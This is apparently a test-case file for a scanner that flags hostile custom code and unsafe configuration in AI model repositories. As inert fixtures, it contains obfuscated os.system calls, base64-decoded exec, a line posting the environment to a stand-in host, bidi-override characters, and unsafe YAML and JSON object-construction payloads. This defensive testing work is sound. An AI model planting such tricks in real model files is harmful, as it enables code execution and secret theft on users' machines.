"""Known answers for `artifact.custom-code`. The code in them is inert and never imported."""

from seatrial.testing.case import Case
from seatrial.testing.model_files import config_json, model_card

_PLAIN = b"import math\n\n\nclass Layer:\n    def scale(self, x: float) -> float:\n        return math.sqrt(x)\n"
_HOSTILE = b"import os as o\n\nrun = o.system\nrun('true')\n"
_USED = b"import os\n\n\nclass M(PreTrainedModel):\n    def __init__(self):\n        os.system('id > /tmp/x')\n"
_LATER = b"import subprocess\n\n\ndef build():\n    subprocess.run(['true'])\n"
_AUTO_MAP = {"AutoModelForCausalLM": "modeling_x.XForCausalLM"}


_ORDINARY = b'''"""A model."""

import json
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_x import XConfig

logger = logging.get_logger(__name__)
VOCAB = os.environ.get("X_VOCAB", "vocab.json")
try:
    import flash_attn
except ImportError:
    flash_attn = None


class XForCausalLM(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config: XConfig) -> None:
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(2)])
        with open(os.path.join(os.path.dirname(__file__), VOCAB), encoding="utf-8") as file:
            self.vocab = json.load(file)
        self.post_init()

    def forward(self, x: torch.Tensor, past: Optional[torch.Tensor] = None) -> torch.Tensor:
        for layer in self.layers:
            x = layer(x)
        return x

    def load_old(self, path: str) -> None:
        self.load_state_dict(torch.load(path, map_location="cpu"))
'''
_NEMO = b"""model:
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    feat_in: 80
  shape: !!python/tuple [1, 2]
optim:
  _target_: torch.optim.AdamW
"""

CASES: tuple[Case, ...] = (
    Case(
        name="fetches code of another repository",
        files={"config.json": config_json(auto_map={"AutoModel": "someone/else--modeling_x.X"})},
        expect=("fail: has loaders fetch and run code of another repository: someone/else--modeling_x.X",),
    ),
    Case(
        name="runs a program when loaded, behind an alias",
        files={"config.json": config_json(auto_map=_AUTO_MAP), "modeling_x.py": _HOSTILE},
        expect=(
            "review: has loaders run code that ships with the model: modeling_x.XForCausalLM",
            "fail: starts a program when it is imported: os.system('true') in line 4",
        ),
    ),
    Case(
        name="hides what it runs in numbers",
        files={"layers.py": b"exec(bytes([112]).decode())\n\n\nclass Layer:\n    pass\n"},
        expect=("fail: runs code made at run time when it is imported: exec('p') in line 1",),
    ),
    Case(
        name="builds the names it calls from pieces",
        files={"modeling_y.py": b"m = __import__('so'[::-1])\ngetattr(m, 'sys' + 'tem')(chr(105) + chr(100))\n"},
        expect=("fail: starts a program when it is imported: os.system('id') in line 2",),
    ),
    Case(
        name="decodes and runs in a method that nobody calls on import",
        files={"modeling_z.py": b"import base64\n\n\ndef f():\n    exec(base64.b64decode('cGFzcw=='))\n"},
        expect=("fail: runs code made at run time when somebody runs it: exec('pass') in line 5",),
    ),
    Case(
        name="sends the environment away",
        files={
            "handler.py": b"import os, requests\nrequests.post('https://example.invalid/c', json=dict(os.environ))\n"
        },
        expect=("fail: opens the network when it is imported: requests.post('https://example.invalid/c') in line 2",),
    ),
    Case(
        name="starts a program when the class is built",
        files={"modeling_x.py": _USED},
        expect=("fail: starts a program when the class is used: os.system('id > /tmp/x') in line 6",),
    ),
    Case(
        name="reads otherwise than it runs",
        files={"modeling_x.py": "import os\nx = 'a\u202e b'\n".encode()},
        expect=("fail: source that holds characters that make code read otherwise than it runs",),
    ),
    Case(
        name="breaks off",
        files={"modeling_x.py": b"import os\ndef f(:\n"},
        expect=("open: Python source that is not Python",),
    ),
    Case(
        name="asks loaders for trust",
        files={"config.json": config_json(vision_config={"trust_remote_code": True})},
        expect=("review: asks loaders to run code of the repository by the key trust_remote_code",),
    ),
    Case(
        name="could run a program once it is used",
        files={"config.json": config_json(auto_map=_AUTO_MAP), "modeling_x.py": _LATER},
        expect=("review: starts a program when somebody runs it: subprocess.run(['true'])",),
    ),
    Case(
        name="one key twice, so that readers differ",
        files={"config.json": b'{"model_type": "llama", "auto_map": {}, "auto_map": {"AutoModel": "m.X"}}'},
        expect=("open: a configuration that has the key",),
    ),
    Case(
        name="has a dangerous function called by its name",
        files={"model_config.yaml": b"model:\n  _target_: os.system\n  command: id\n"},
        expect=("fail: has loaders call into a module that acts on the machine: os.system in line 2",),
    ),
    Case(
        name="a component of a pipeline that is no library",
        files={"model_index.json": b'{"_class_name": "P", "unet": ["my_unet", "U"], "vae": ["os", "system"]}'},
        expect=(
            "review: has loaders run code that ships with the model: my_unet.U",
            "fail: has loaders call into a module that acts on the machine: os.system",
        ),
    ),
    Case(
        name="JSON from which a decoder builds objects",
        files={"state.json": b'{"py/object": "subprocess.Popen", "args": ["id"]}'},
        expect=("fail: has decoders build an object of any class by the key py/object: subprocess.Popen",),
    ),
    Case(
        name="YAML that constructs objects",
        files={"params.yaml": b"name: x\nhook: !!python/object/apply:os.getcwd []\n"},
        expect=("fail: YAML that makes an unsafe loader construct a Python object: python/object/apply:os.getcwd",),
    ),
    Case(
        name="YAML that constructs objects by a short tag in its second document",
        files={"params.yaml": b"%TAG !p! tag:yaml.org,2002:python/\n---\na: 1\nb: !p!name:os.system ''\n"},
        expect=("fail: YAML that makes an unsafe loader construct a Python object: python/name:os.system",),
    ),
    Case(
        name="a configuration of a known architecture",
        files={"config.json": config_json(), "README.md": model_card()},
        good=True,
    ),
    Case(
        name="an ordinary model that computes",
        files={"modeling_x.py": _ORDINARY, "model_config.yaml": _NEMO, "layer.py": _PLAIN},
        good=True,
    ),
    Case(
        name="the schema of a skops file, which has a check of its own",
        files={
            "schema.json": b'{"__class__": "Tree", "__module__": "sklearn.tree._tree", "__loader__": "TreeNode",'
            b' "__reduce__": {"type": "tuple"}, "protocol": 2}'
        },
        good=True,
    ),
)
